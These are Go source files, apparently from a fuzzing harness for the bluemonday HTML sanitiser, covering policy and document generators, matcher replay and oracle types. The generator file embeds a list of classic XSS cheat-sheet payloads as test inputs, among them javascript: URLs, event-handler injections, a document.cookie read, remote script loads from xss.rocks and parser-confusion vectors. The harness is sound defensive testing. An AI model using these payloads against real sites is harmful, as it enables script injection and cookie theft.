					sb.WriteString(ch)
				}
			}
			v := sb.String()
			re := ms[c.M]
			if re == nil {
				fmt.Fprintln(os.Stderr, "replaymatchers: unknown matcher", c.M)
				return 2
			}
			got := re.MatchString(v)
			res.Cases++
			res.Execs++
			res.Applicable["C19"]++
			if got {
				accepted[c.M]++
			}
			add := func(key, det string) {
				if !seen[key] || len(res.Violations) < 6 {
					seen[key] = true
					rf := MatcherReplayFile{"C19", key, det, c.M, v, c.Doc}
					os.MkdirAll(ReplayDir(), 0o755)
					path := fmt.Sprintf("%s/C19-%08x.json", ReplayDir(), hashString(c.M+"|"+v))
					os.WriteFile(path, JSON(rf), 0o644)
					res.Violations = append(res.Violations, ViolationRec{Finding{"C19", key, det}, path})
				}
			}
			switch {
			case got && !c.Doc:
				add("overaccept:"+c.M, fmt.Sprintf("%s accepts %q, which is not of its documented form", c.M, v))
			case c.Ex && !got:
				add("example:"+c.M, fmt.Sprintf("%s rejects its documented example %q", c.M, v))
			case c.Doc && !got:
				under[c.M]++
			}
			if len(res.Samples) < 4 && got && len(c.S) >= 3 {
				res.Samples = append(res.Samples, map[string]interface{}{"matcher": c.M, "value": v, "documented_form": c.Doc, "real_accepts": got})
			}
		}
		if err != nil {
			break
		}
	}
	n := 0
	for _, k := range accepted {
		n += k
	}
	res.Nontrivial = n
	res.Extra = map[string]interface{}{"accepted_by_real_matcher": accepted, "documented_form_but_rejected": under}
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("replaymatchers: cases=%d accepted=%d violations=%d\n", res.Cases, n, len(res.Violations))
	return 0
}

func reproC19(path string) int {
	var rf MatcherReplayFile
	if err := LoadJSONFile(path, &rf); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	got := realMatchers()[rf.Matcher].MatchString(rf.Value)
	fmt.Printf("%s.MatchString(%q) = %v; documented form: %v\n", rf.Matcher, rf.Value, got, rf.WantAcc)
	if got != rf.WantAcc {
		fmt.Printf("VIOLATION property=C19 replay=%s\n  %s\n", path, rf.Detail)
		return 1
	}
	fmt.Println("property holds on this replay")
	return 0
}

func init() { Commands["replaymatchers"] = cmdReplayMatchers }
