package h

import (
	"fmt"
	"math/rand"
	"net/url"
	"strings"
)

// Seeded generators: policy recipes, documents (as abstract tokens and as bytes).

var (
	genAllowEls  = []string{"b", "i", "p", "div", "span", "a", "img", "br", "hr", "table", "tr", "td", "ul", "li", "blockquote", "q", "pre", "code", "h1", "details", "del", "area", "link", "audio", "video", "source", "input", "bdo", "meter"}
	genPatEls    = []string{"custom-x", "custom-y", "x-foo", "x-bar"}
	genOtherEls  = []string{"blink", "form", "font", "center", "section", "nav", "em", "d\u0130v", "l\u0130", "scr\u0130pt", "t\u0130tle", "l\u0130n\u212a"}
	genSkipEls   = []string{"object", "iframe", "noscript", "title", "frameset", "frame", "noembed", "noframes", "nostyle"}
	genUnsafeEls = []string{"script", "style"}
	genRawEls    = []string{"textarea", "xmp"}
	genForeign   = []string{"svg", "math"}
	genPats      = []string{"^custom-", "^x-", "^h[1-6]$", "^(em|font)$", "^(ob|if)", "-x$"}
	genAttrKeys  = []string{"href", "src", "cite", "class", "id", "title", "rel", "target", "alt", "width", "style", "dir", "lang", "onclick", "data-x", "data-xml1", "data-a;b", "crossorigin", "sandbox", "type", "value", "open", "name"}
	genAttrRes   = []string{`^[a-z]+$`, `^[0-9]+%?$`, `(?i)^(rtl|ltr)$`, `^[\p{L}\p{N}\s\-_',\[\]!\./\\\(\)]*$`, `k`, `^$`, `^.{0,12}$`}

	genURLVals = []string{"http://example.org/a?b=1&c=2", "https://e.com", "/rel/path", "rel.html", "#frag", "javascript:alert(1)",
		"JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "jav&#x09;ascript:alert(1)", "data:image/png;base64,iVBORw0KGgo=",
		"data:text/html,<script>alert(1)</script>", "mailto:a@b.c", "//host/p", "http://[::1]/", "http://a b/", "%zz", "vbscript:x",
		"", "?q=1", "ftp://f/x", "x:y", "http:\\\\e.com\\p", "HTTP://EXAMPLE.ORG/Up", "http://u:p@h.com/", "http://h.com/%41%zz", "https://xn--nxasmq6b.example/",
		"http://example.com/é", "httpx://e.com/", "xhttp://e.com/x", "web+https:x", "https:opaque.example/p.gif", "a b", "x\ty", "/caf\u00e9/menu", "http://e.com/%zz", " http://example.org/lead", "\nhttps://e.com/x", "https://e.com/trail\n", "data:image/png;base64,iVBO\nRw0KGgo=", "\x01javascript:alert(1)", "http://example.org/a b", "tel:+1234", "HtTpS://e.com/x?y=<z>",
		"data:image/png;base64,%zz", "data:image/png;base64,%41%42", "data:image/png;base64,iVBO%0ARw0K", "data:image/gif;base64,", "data:image/png;base64"}
	genTextVals  = []string{"k", "a b", "x\"y", "<i>", "&amp;", "é中", "1", "50%", "rtl", "LTR", "", "left", "abc def", "'q'", "a\x00b", "on", "red;"}
	genRelVals   = []string{"nofollow", "NOFOLLOW", "noopener", "tag", "xnofollowx", "", "me  nofollow", "noreferrer noopener", "notnoopenerx", "author\tnofollow"}
	genTgtVals   = []string{"_blank", "_top", "", "_BLANK", "frame1"}
	genStyleVals = []string{"color: red", "color:red;background:url(javascript:alert(1))", "COLOR: RED; font-size: 12px", "text-align:center;;", "width: expression(alert(1))",
		"color: \\72 ed", "color: r\\65D", "color: b\\6Cue", "-webkit-transition: none", "color: red !important", "background-image: url('http://e.com/a;b.png')", "/* c */ color: blue", "color", ":", "color: r\\65 d", "font-family: \\110000 x",
		"color: r\\0 ed", "color: \\d800 x", "color: \\5c 72 ed", "color: \\", "color: \\ffffff", " ", "   ", ";", " ; ", "color: red;  "}
	genSandboxVals = []string{"allow-forms", "allow-scripts allow-forms", "allow-forms  allow-forms", "bogus", "", "ALLOW-FORMS", "allow-same-origin\tallow-popups bogus"}
)

func pickS(r *rand.Rand, ss []string) string { return ss[r.Intn(len(ss))] }

func pickN(r *rand.Rand, ss []string, max int) []string {
	n := 1 + r.Intn(max)
	out := []string{}
	for i := 0; i < n; i++ {
		out = append(out, pickS(r, ss))
	}
	return out
}

func maybeUpper(r *rand.Rand, ss []string) []string {
	out := make([]string, len(ss))
	for i, s := range ss {
		if r.Intn(6) == 0 {
			s = strings.ToUpper(s)
		}
		out[i] = s
	}
	return out
}

// GenAttrValue picks a value suited to the attribute name.
func GenAttrValue(r *rand.Rand, k string) string {
	switch k {
	case "href", "src", "cite":
		return pickS(r, genURLVals)
	case "rel":
		return pickS(r, genRelVals)
	case "target":
		return pickS(r, genTgtVals)
	case "style":
		return pickS(r, genStyleVals)
	case "sandbox":
		return pickS(r, genSandboxVals)
	case "crossorigin":
		return pickS(r, []string{"anonymous", "use-credentials", "", "x"})
	}
	return pickS(r, genTextVals)
}

// GenOpts restricts the policy generator.
type GenOpts struct {
	NoUnsafe   bool // never call AllowUnsafe(true)
	NoStyles   bool // no AllowStyles rules
	NoRawAllow bool // never allow raw-text elements
}

// GenRecipe draws a random policy recipe over the whole builder API.
func GenRecipe(r *rand.Rand, o GenOpts) Recipe {
	var rc Recipe
	add := func(c Call) { c.norm(); rc = append(rc, c) }
	switch r.Intn(10) {
	case 0:
		add(Call{M: "UGCPolicy"})
	case 1:
		add(Call{M: "StrictPolicy"})
	case 2:
		add(Call{M: "ZeroValue"})
	default:
		add(Call{M: "NewPolicy"})
	}
	elPool := append(append([]string{}, genAllowEls...), genPatEls...)
	if r.Intn(4) == 0 {
		elPool = append(elPool, genSkipEls...)
	}
	if r.Intn(4) == 0 {
		elPool = append(elPool, genUnsafeEls...)
	}
	if !o.NoRawAllow && r.Intn(5) == 0 {
		elPool = append(elPool, genRawEls...)
	}
	if r.Intn(6) == 0 {
		elPool = append(elPool, genForeign...)
	}
	n := r.Intn(9)
	for i := 0; i < n; i++ {
		switch r.Intn(16) {
		case 0, 1:
			add(Call{M: "AllowElements", Names: maybeUpper(r, pickN(r, elPool, 4))})
		case 2:
			add(Call{M: "AllowElementsMatching", Pat: pickS(r, genPats)})
		case 3, 4, 5, 6:
			c := Call{M: "AllowAttrs", Attrs: maybeUpper(r, pickN(r, genAttrKeys, 3))}
			if r.Intn(2) == 0 {
				c.Match = "re:" + pickS(r, genAttrRes)
			}
			c.NoAttrs = r.Intn(5) == 0
			if c.NoAttrs && r.Intn(3) == 0 {
				c.Attrs = nil
			}
			if !c.NoAttrs && r.Intn(12) == 0 {
				c.Attrs = nil // an empty attribute list: the call must change nothing
			}
			switch r.Intn(4) {
			case 0:
				c.Scope = "glob"
				if len(c.Attrs) == 0 {
					c.Scope, c.Els = "els", pickN(r, append(append([]string{}, elPool...), genSkipEls...), 2)
				}
			case 1:
				c.Scope, c.Pat = "pat", pickS(r, genPats)
			default:
				c.Scope, c.Els = "els", maybeUpper(r, pickN(r, elPool, 3))
			}
			add(c)
		case 7:
			add(Call{M: pickS(r, []string{"RequireNoFollowOnLinks", "RequireNoFollowOnFullyQualifiedLinks", "RequireNoReferrerOnLinks",
				"RequireNoReferrerOnFullyQualifiedLinks", "AddTargetBlankToFullyQualifiedLinks", "RequireCrossOriginAnonymous",
				"RequireParseableURLs", "AllowRelativeURLs"}), B: r.Intn(4) != 0})
		case 8:
			add(Call{M: "AllowURLSchemes", Schemes: maybeUpper(r, pickN(r, []string{"http", "https", "mailto", "ftp", "data", "tel", "x"}, 3))})
		case 9:
			switch r.Intn(4) {
			case 0:
				fids := SortedKeysF(URLPols)
				add(Call{M: "AllowURLSchemeWithCustomPolicy", Scheme: pickS(r, []string{"http", "https", "HTTP", "data"}), Fid: fids[r.Intn(len(fids))]})
			case 1:
				add(Call{M: "AllowURLSchemesMatching", Pat: pickS(r, []string{"^(ftp|tel)$", "^x", "s$"})})
			case 2:
				fids := SortedKeysR(Rewriters)
				add(Call{M: "RewriteSrc", Fid: fids[r.Intn(len(fids))]})
			default:
				add(Call{M: "AllowDataURIImages"})
			}
		case 10:
			add(Call{M: "AddSpaceWhenStrippingTag", B: r.Intn(4) != 0})
		case 11:
			if r.Intn(2) == 0 {
				add(Call{M: "SkipElementsContent", Names: maybeUpper(r, pickN(r, append(append(append([]string{}, genOtherEls[:7]...), genPatEls...), "b", "div", "textarea"), 2))})
			} else {
				add(Call{M: "AllowElementsContent", Names: maybeUpper(r, pickN(r, append(append([]string{}, genSkipEls...), genUnsafeEls...), 3))})
			}
		case 12:
			switch r.Intn(3) {
			case 0:
				add(Call{M: "AllowComments"})
			case 1:
				add(Call{M: "AllowDataAttributes"})
			default:
				if !o.NoUnsafe {
					add(Call{M: "AllowUnsafe", B: r.Intn(2) == 0})
				} else {
					add(Call{M: "AllowUnsafe", B: false}) // an explicit "no"
				}
			}
		case 13:
			add(Call{M: pickS(r, []string{"AllowStandardURLs", "AllowStandardAttributes", "AllowStyling", "AllowImages", "AllowLists", "AllowTables"})})
		case 14:
			vals := []string{}
			for _, v := range SandboxNames() {
				if r.Intn(4) == 0 {
					vals = append(vals, v)
				}
			}
			add(Call{M: pickS(r, []string{"RequireSandboxOnIFrame", "AllowIFrames"}), Vals: vals})
		case 15:
			if o.NoStyles {
				continue
			}
			c := Call{M: "AllowStyles", Props: maybeUpper(r, pickN(r, []string{"color", "background", "font-size", "text-align", "width", "transition", "background-image", "font-family"}, 2))}
			switch r.Intn(5) {
			case 0:
				hs := SortedKeysH(StyleHandlers)
				c.Handler = hs[r.Intn(len(hs))]
			case 1:
				c.Enum = "e:" + strings.Join(pickN(r, []string{"red", "blue", "center", "12px", "none"}, 3), "|")
			case 2:
				c.Re = "r:" + pickS(r, []string{`^[a-z]+$`, `^[0-9]+px$`, `^(red|blue)$`})
			}
			switch r.Intn(3) {
			case 0:
				c.Scope = "glob"
			case 1:
				c.Scope, c.Pat = "pat", pickS(r, genPats)
			default:
				c.Scope, c.Els = "els", pickN(r, elPool, 2)
			}
			add(c)
		}
	}
	return rc
}

func SortedKeysF[T any](m map[string]T) []string {
	b := map[string]bool{}
	for k := range m {
		b[k] = true
	}
	return SortedKeys(b)
}

var SortedKeysR = SortedKeysF[func(*url.URL)]
var SortedKeysH = SortedKeysF[func(string) bool]

// ---------------------------------------------------------------------------
// documents

type docGen struct {
	r      *rand.Rand
	p      *AP
	marker int
	names  []string
}

func (g *docGen) mark(prefix string) string {
	g.marker++
	m := fmt.Sprintf("%s%dz", prefix, g.marker)
	// character data is not always plain: markup characters, a carriage return (only expressible as a
	// character reference), a no-break space
	if prefix == "T" && g.r.Intn(4) == 0 {
		m += pickS(g.r, []string{"&", "<", ">", "\"", "'", "\r", "\u00a0", "&amp;", "<b>"})
	}
	return m
}

func (g *docGen) attrs(n string) []Attr {
	as := []Attr{}
	k := g.r.Intn(4)
	if g.r.Intn(3) == 0 {
		k = 0
	}
	// prefer attributes the policy has rules for on this element
	pool := append([]string{}, genAttrKeys...)
	for a := range g.p.ElAttrs[n] {
		pool = append(pool, a, a)
	}
	for a := range g.p.GlobalAttrs {
		pool = append(pool, a)
	}
	for i := 0; i < k; i++ {
		key := pickS(g.r, pool)
		as = append(as, Attr{key, GenAttrValue(g.r, key)})
	}
	return as
}

// wellNested generates a well-nested token sequence of roughly n elements.
func (g *docGen) wellNested(depth, budget int) []Tok {
	out := []Tok{}
	for budget > 0 {
		budget--
		switch g.r.Intn(7) {
		case 0, 1:
			out = append(out, Tok{T: "text", D: g.mark("T"), A: []Attr{}})
		case 2:
			if g.r.Intn(3) == 0 {
				out = append(out, Tok{T: "comment", D: g.mark("C"), A: []Attr{}})
			}
		default:
			n := pickS(g.r, g.names)
			as := g.attrs(n)
			switch {
			case VoidEls[n]:
				out = append(out, Tok{T: "start", N: n, A: as})
			case RawEls[n]:
				out = append(out, Tok{T: "start", N: n, A: as})
				if g.r.Intn(4) != 0 {
					out = append(out, Tok{T: "text", D: g.mark("R"), A: []Attr{}})
				}
				out = append(out, Tok{T: "end", N: n, A: []Attr{}})
			case g.r.Intn(12) == 0:
				out = append(out, Tok{T: "self", N: n, A: as})
			default:
				out = append(out, Tok{T: "start", N: n, A: as})
				if depth < 4 {
					sub := g.r.Intn(4)
					out = append(out, g.wellNested(depth+1, sub)...)
					budget -= sub
				}
				out = append(out, Tok{T: "end", N: n, A: []Attr{}})
			}
		}
	}
	// merge adjacent texts (the tokenizer would)
	m := []Tok{}
	for _, t := range out {
		if t.T == "text" && len(m) > 0 && m[len(m)-1].T == "text" {
			m[len(m)-1].D += " " + t.D
			continue
		}
		m = append(m, t)
	}
	return m
}

var soup = []string{"<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<math>", "<mtext>", "<table>", "<td>", "</table>", "<select>", "<option>",
	"<noscript>", "</noscript>", "<iframe>", "</iframe>", "<textarea>", "</textarea>", "<title>", "</title>", "<xmp>", "</xmp>", "<plaintext>", "<!--", "-->", "<!-->", "--!>",
	"<![CDATA[", "]]>", "<?xml ?>", "<!DOCTYPE html>", "<a href=\"javascript:alert(1)\">", "</a>", "<img src=x onerror=alert(1)>", "<b>", "</b>", "<p>", "</p>", "<div>", "</div>",
	"<IMG SRC=\"jav&#x0A;ascript:alert(1);\">", "<a href=http://e.com>", "<br>", "<br/>", "<hr/>", "<", ">", "\"", "'", "`", "=", "/", "&", "&lt;", "&#60;", "&#x3c", "&amp;lt;", "&", " ", "\n", "\t",
	"\x00", "\r\n", "\xff", "\xc0\xaf", "abc", "T", "</", "<//", "<script/>", "<style/>", "<scr\xc4\xb0pt>", "<SCRIPT SRC=//x>", "<object>", "</object>", "<frame>", "<frameset>", "</frameset>",
	"<custom-x>", "</custom-x>", "<x-foo a=b>", "<form>", "<input>", "<button>", "<body>", "<html>", "<head>", "<base href=//x>", "<meta>", "<link rel=stylesheet href=x>", "<a>", "<img>",
	"<image>", "<listing>", "<noembed>", "</noembed>", "<noframes>", "</noframes>", "<template>", "</template>", "<annotation-xml encoding=\"text/html\">", "<foreignObject>", "<desc>", "<mglyph>", "<malignmark>",
	"<tr>", "<caption>", "<col>", "<colgroup>", "<tbody>", "</p", "<p ", "<a b='", "<a b=\"", "<a b=c", "x=y", "<!", "<?", "<%", "</ x>", "</>", "<a/b=c>", "<a\x00b>", "<b\x0c>", "&#0;", "&#x110000;", "&#128;", "&notit;", "&ampx",
}

// xssVectors: the classic cheat-sheet families (tag/attribute splitting, encoded schemes, raw-text and
// foreign-content confusion).
var xssVectors = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`, `<IMG SRC="javascript:alert('XSS');">`, `<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`, "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", `<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`, `<IMG SRC=# onmouseover="alert('xxs')">`, `<IMG SRC= onmouseover="alert('xxs')">`, `<IMG onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`, `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`, "<IMG SRC=\"jav\tascript:alert('XSS');\">",
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`, `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`, `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`, "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
	`<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`, "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`, `<<SCRIPT>alert("XSS");//<</SCRIPT>`,
	`<SCRIPT SRC=http://xss.rocks/xss.js?< B >`, `<SCRIPT SRC=//xss.rocks/.j>`, `<IMG SRC="javascript:alert('XSS')"`, `<iframe src=http://xss.rocks/scriptlet.html <`, `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`, `<BODY BACKGROUND="javascript:alert('XSS')">`, `<IMG DYNSRC="javascript:alert('XSS')">`, `<IMG LOWSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`, `<IMG SRC='vbscript:msgbox("XSS")'>`, `<svg/onload=alert('XSS')>`, `<BODY ONLOAD=alert('XSS')>`,
	`<BGSOUND SRC="javascript:alert('XSS');">`, `<BR SIZE="&{alert('XSS')}">`, `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`, `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`, `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`, `<XSS STYLE="behavior: url(xss.htc);">`,
	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`, `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`, `<XSS STYLE="xss:expression(alert('XSS'))">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`, `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`, `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`, `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`, `<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`, `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`, `<DIV STYLE="width: expression(alert('XSS'));">`, `<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`, `<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`, `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`, `<A HREF="//www.google.com/">XSS</A>`, `<A HREF="h\ntt  p://6 6.000146.0x7.147/">XSS</A>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">`,
	`<textarea><script>alert(1)</script></textarea>`, `<title><img src=x onerror=alert(1)></title>`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`, `<?xml version="1.0"?><script>alert(1)</script>`, `<a href="&#x6a;avascript:alert(1)">x</a>`, `<a href="java&#x73;cript&colon;alert(1)">x</a>`, `<a href="\x01javascript:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<a href=javascript&colon;alert&lpar;1&rpar;>x</a>`, "<scr\xc4\xb0pt>alert(1)</scr\xc4\xb0pt>",
	`<script/>alert(1)</script>`, `<style/>*{x:expression(alert(1))}</style>`, `<a href="http://good.example/" target="_blank" rel="xnoopenerx">x</a>`, `<del cite="javascript:alert(1)">x</del>`, `<q cite="JaVaScRiPt:alert(1)">x</q>`,
}

// GenDoc generates one input document as bytes; kind selects the generator family.
func GenDoc(r *rand.Rand, p *AP, kind int) (toks []Tok, b []byte) {
	g := &docGen{r: r, p: p}
	pool := []string{}
	for el := range p.ElAttrs {
		pool = append(pool, el)
	}
	pool = addSet(pool)
	switch kind {
	case 0, 1, 2: // well-nested, from a mixed universe
		g.names = append(append(append(append([]string{}, pool...), genAllowEls...), genPatEls...), genOtherEls...)
		if kind != 2 { // kind 2: free of skip/unsafe/raw elements (the class of C06)
			g.names = append(append(append(g.names, genSkipEls...), genSkipEls...), genUnsafeEls...)
			g.names = append(g.names, genRawEls...)
		} else {
			clean := []string{}
			for _, n := range g.names {
				if !RawEls[n] && !unsafeName(n) && !inSet(p.Skip, n) {
					clean = append(clean, n)
				}
			}
			g.names = clean
			if len(g.names) == 0 {
				g.names = []string{"b"}
			}
		}
		toks = g.wellNested(0, 2+r.Intn(8))
		if r.Intn(40) == 0 { // one run of character data longer than any buffer a tokenizer might be capped at
			long := g.mark("L") + strings.Repeat("long text ", 7000)
			if n := len(toks); n > 0 && toks[n-1].T == "text" {
				toks[n-1].D += " " + long
			} else {
				toks = append(toks, Tok{T: "text", D: long, A: []Attr{}})
			}
		}
		if r.Intn(12) == 0 { // a byte order mark (or two) in front: character data like any other
			bom := []string{"\ufeff", "\ufeff\ufeff"}[r.Intn(2)]
			if len(toks) > 0 && toks[0].T == "text" {
				toks[0].D = bom + toks[0].D
			} else {
				toks = append([]Tok{{T: "text", D: bom + g.mark("T"), A: []Attr{}}}, toks...)
			}
		}
		var vr *rand.Rand
		if r.Intn(3) != 0 {
			vr = r
		}
		b = Serialise(toks, vr)
		if !ReadsBackAs(b, toks) {
			b = Serialise(toks, nil)
		}
		return toks, b
	case 3: // token-level mutation of a well-nested document
		g.names = append(append(append(append([]string{}, pool...), genAllowEls...), genSkipEls...), genUnsafeEls...)
		toks = g.wellNested(0, 2+r.Intn(8))
		for k := r.Intn(3) + 1; k > 0 && len(toks) > 0; k-- {
			i := r.Intn(len(toks))
			switch r.Intn(3) {
			case 0:
				toks = append(toks[:i], toks[i+1:]...)
			case 1:
				toks = append(toks[:i+1], toks[i:]...)
			default:
				j := r.Intn(len(toks))
				toks[i], toks[j] = toks[j], toks[i]
			}
		}
		return nil, Serialise(toks, r)
	case 7: // conforming document from the policy's own vocabulary, canonical serialisation
		toks = GenConformingDoc(r, p)
		return toks, Serialise(toks, nil)
	case 6: // attribute-heavy: tags from the policy's own vocabulary with attributes its rules talk about
		g.names = pool
		if len(g.names) == 0 {
			g.names = []string{"a", "img", "span"}
		}
		for _, pat := range genPatEls {
			if p.Known(pat) {
				g.names = append(g.names, pat)
			}
		}
		g.names = append(g.names, "a", "img", "iframe", "link")
		for k := 1 + r.Intn(3); k > 0; k-- {
			n := pickS(r, g.names)
			keys := []string{}
			for a := range p.ElAttrs[n] {
				keys = append(keys, a)
			}
			for a := range p.GlobalAttrs {
				keys = append(keys, a)
			}
			for _, pat := range p.PatsFor(n) {
				for a := range p.PatAttrs[pat] {
					keys = append(keys, a)
				}
			}
			keys = addSet(keys)
			keys = append(keys, "href", "src", "rel", "target", "style", "class", "crossorigin", "sandbox", "data-x", "onclick", "cite")
			as := []Attr{}
			for j := 1 + r.Intn(4); j > 0; j-- {
				key := pickS(r, keys)
				as = append(as, Attr{key, GenAttrValue(r, key)})
			}
			toks = append(toks, Tok{T: "start", N: n, A: as})
			if r.Intn(2) == 0 {
				toks = append(toks, Tok{T: "text", D: g.mark("T"), A: []Attr{}})
			}
			if !VoidEls[n] && r.Intn(3) != 0 {
				toks = append(toks, Tok{T: "end", N: n, A: []Attr{}})
			}
		}
		var vr *rand.Rand
		if r.Intn(2) == 0 {
			vr = r
		}
		b = Serialise(toks, vr)
		return toks, b
	case 8: // XSS cheat-sheet vectors, alone, concatenated, or spliced with soup
		var sb strings.Builder
		for k := 1 + r.Intn(3); k > 0; k-- {
			sb.WriteString(pickS(r, xssVectors))
			if r.Intn(3) == 0 {
				sb.WriteString(pickS(r, soup))
			}
		}
		return nil, []byte(sb.String())
	case 9: // markup-free text with every kind of white space and odd bytes
		var sb strings.Builder
		words := []string{"plain", "text", "a", "\r", "\r\n", "\n", "\t", " ", "  ", "\x00", "é", "中", "\xff", "1", ".", ",", "-", "\x0c", "\x0b", "\ufeff", "\ufeff\ufeff"}
		for k := 1 + r.Intn(12); k > 0; k-- {
			sb.WriteString(pickS(r, words))
		}
		return nil, []byte(sb.String())
	case 10: // a deep, properly closed chain of a few element names (dropped for lack of attributes, kept, unknown), far deeper
		// than any bound a "reasonable" stack limit might have
		cand := append(append([]string{"a", "span", "font", "b", "div", "blink"}, pool...), genPatEls...)
		names := []string{}
		for _, n := range cand {
			if !VoidEls[n] && !RawEls[n] && !unsafeName(n) && !inSet(p.Skip, n) {
				names = append(names, n)
			}
		}
		k := 1 + r.Intn(3)
		chosen := []string{}
		for i := 0; i < k; i++ {
			chosen = append(chosen, pickS(r, names))
		}
		depth := 130 + r.Intn(200)
		for i := 0; i < depth; i++ {
			n := chosen[i%len(chosen)]
			as := []Attr{}
			if r.Intn(8) == 0 {
				as = g.attrs(n)
			}
			toks = append(toks, Tok{T: "start", N: n, A: as})
		}
		toks = append(toks, Tok{T: "text", D: g.mark("T"), A: []Attr{}})
		for i := depth - 1; i >= 0; i-- {
			toks = append(toks, Tok{T: "end", N: chosen[i%len(chosen)], A: []Attr{}})
		}
		b = Serialise(toks, nil)
		return toks, b
	case 4: // fragment soup
		var sb strings.Builder
		for k := 1 + r.Intn(10); k > 0; k-- {
			sb.WriteString(pickS(r, soup))
		}
		return nil, []byte(sb.String())
	default: // raw bytes
		n := r.Intn(24)
		bs := make([]byte, n)
		for i := range bs {
			switch r.Intn(3) {
			case 0:
				bs[i] = byte(r.Intn(256))
			default:
				bs[i] = "<>/=\"'&;! abtscriple-"[r.Intn(21)]
			}
		}
		return nil, bs
	}
}
