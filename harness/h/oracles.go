package h

import (
	"fmt"
	"strings"
	"time"

	bm "github.com/microcosm-cc/bluemonday"
	"golang.org/x/net/html"
)

// Exec is one real execution with everything an oracle may look at.
type Exec struct {
	Recipe  Recipe
	Model   *AP // the harness' own reading of the recipe: what the user asked for
	Real    *bm.Policy
	Input   []byte
	Output  []byte
	Rec     *CallRec
	InToks  []Tok
	OutToks []Tok
	Dur     time.Duration // wall time of the call, when measured
	// set when the policy was extended after use (see ReplayFile)
	ExtendAt int
	Prior    [][]byte
}

func NewExec(r Recipe, model *AP, real *bm.Policy, in, out []byte, rec *CallRec) *Exec {
	return &Exec{Recipe: r, Model: model, Real: real, Input: in, Output: out, Rec: rec,
		InToks: Tokens(in), OutToks: Tokens(out)}
}

// Finding is a violation of a property observed on the real code.
type Finding struct {
	Prop   string `json:"property"`
	Key    string `json:"key"`    // stable signature (used by the known-findings file)
	Detail string `json:"detail"` // human readable
}

type Oracle func(x *Exec) []Finding

var Oracles = map[string]Oracle{}

// Applies says whether an execution actually exercises a property (its antecedent holds), so that
// the evidence can report how many executions were non-vacuous for it.
var Applies = map[string]func(x *Exec) bool{}

func applies(prop string, x *Exec) bool {
	if f := Applies[prop]; f != nil {
		return f(x)
	}
	return true
}

